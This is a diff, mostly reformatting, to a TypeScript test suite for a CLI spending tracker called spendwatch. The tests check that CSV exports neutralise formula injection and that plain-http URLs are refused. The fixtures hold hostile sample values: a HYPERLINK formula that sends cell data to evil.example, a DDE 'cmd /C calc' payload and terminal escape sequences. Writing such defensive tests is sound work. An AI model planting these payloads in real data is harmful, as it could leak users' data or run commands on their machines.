@@ -14,7 +14,7 @@ import { ensureCliBuilt, runCli } from '../../support/cli';
 
 const HOSTILE = {
   proj_alpha: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
-  proj_beta: '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  proj_beta: "@SUM(1+1)*cmd|' /C calc'!A0",
   proj_old: '\u001b[31mRed\u001b]0;pwned\u0007 \u001b[2Jname\u0007',
 };
 
@@ -22,7 +22,10 @@ describe.runIf(Boolean(process.env.DBUS_SESSION_BUS_ADDRESS))('spendwatch output
   const key = `sk-admin-hostile${Date.now()}xxxxxxxxxxxxxxxxx`;
   const org = smallOrganisation(400);
   for (const project of org.projects) project.name = HOSTILE[project.id as keyof typeof HOSTILE];
-  org.costs[utcDay(0)].push({ projectId: 'proj_beta', lineItem: '+tab\tinjection, input', value: 0.5 }, { projectId: 'proj_beta', lineItem: '-10+20', value: 0.25 });
+  org.costs[utcDay(0)].push(
+    { projectId: 'proj_beta', lineItem: '+tab\tinjection, input', value: 0.5 },
+    { projectId: 'proj_beta', lineItem: '-10+20', value: 0.25 },
+  );
   const home = mkdtempSync(join(tmpdir(), 'sw-cli-safe-'));
   let server: FakeOpenAiServer;
   let baseUrl: string;
@@ -31,7 +34,14 @@ describe.runIf(Boolean(process.env.DBUS_SESSION_BUS_ADDRESS))('spendwatch output
     ensureCliBuilt();
     server = new FakeOpenAiServer({ [key]: org });
     baseUrl = await server.start();
-    expect((await runCli(['accounts', 'add', '--provider', 'openai', '--name', 'Acme Prod', '--base-url', baseUrl], { home, input: key })).code).toBe(0);
+    expect(
+      (
+        await runCli(['accounts', 'add', '--provider', 'openai', '--name', 'Acme Prod', '--base-url', baseUrl], {
+          home,
+          input: key,
+        })
+      ).code,
+    ).toBe(0);
     expect((await runCli(['sync'], { home })).code).toBe(0);
   });
   afterAll(async () => {
@@ -42,7 +52,9 @@ describe.runIf(Boolean(process.env.DBUS_SESSION_BUS_ADDRESS))('spendwatch output
   it('exports formula-like names as text that stays readable', async () => {
     const r = await runCli(['export', '--from', utcDay(0), '--to', utcDay(0)], { home });
     expect(r.code).toBe(0);
-    const cells = r.stdout.match(/"(?:[^"]|"")*"|[^,\n]+/g)!.map((c) => (c.startsWith('"') ? c.slice(1, -1).replace(/""/g, '"') : c));
+    const cells = r.stdout
+      .match(/"(?:[^"]|"")*"|[^,\n]+/g)!
+      .map((c) => (c.startsWith('"') ? c.slice(1, -1).replace(/""/g, '"') : c));
     for (const cell of cells) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
     expect(cells).toContain(`'${HOSTILE.proj_alpha}`);
     expect(cells).toContain(`'${HOSTILE.proj_beta}`);
@@ -63,20 +75,27 @@ describe.runIf(Boolean(process.env.DBUS_SESSION_BUS_ADDRESS))('spendwatch output
 
   it('ends quietly when the reader goes away (export | head -1)', async () => {
     const result = await new Promise<{ code: number | null; stderr: string; stdout: string }>((resolve) => {
-      const child = spawn('sh', ['-c', 'node bin/spendwatch.cjs export | head -1; echo "exit:${PIPESTATUS:-$?}"'], { env: { ...process.env, SPENDWATCH_HOME: home } });
+      const child = spawn('sh', ['-c', 'node bin/spendwatch.cjs export | head -1; echo "exit:${PIPESTATUS:-$?}"'], {
+        env: { ...process.env, SPENDWATCH_HOME: home },
+      });
       let stderr = '';
       let stdout = '';
       child.stdout.on('data', (d) => (stdout += d));
       child.stderr.on('data', (d) => (stderr += d));
       child.on('close', (code) => resolve({ code, stderr, stdout }));
     });
-    expect(result.stdout.split('\n')[0]).toBe('date_utc,account,project_id,project_name,line_item,amount,currency,api_key_id,quantity,quantity_unit,provider');
+    expect(result.stdout.split('\n')[0]).toBe(
+      'date_utc,account,project_id,project_name,line_item,amount,currency,api_key_id,quantity,quantity_unit,provider',
+    );
     expect(result.stderr).toBe('');
   });
 
   it('refuses plain http:// base URLs except loopback', async () => {
     const other = mkdtempSync(join(tmpdir(), 'sw-cli-safe-'));
-    const r = await runCli(['accounts', 'add', '--provider', 'openai', '--name', 'Plain', '--base-url', 'http://api.example.com/v1'], { home: other, input: key });
+    const r = await runCli(
+      ['accounts', 'add', '--provider', 'openai', '--name', 'Plain', '--base-url', 'http://api.example.com/v1'],
+      { home: other, input: key },
+    );
     expect(r.code).toBe(2);
     expect(r.stderr).toMatch(/Plain http:\/\/ is refused/);
     expect(server.requests.some((req) => req.key === null)).toBe(false);
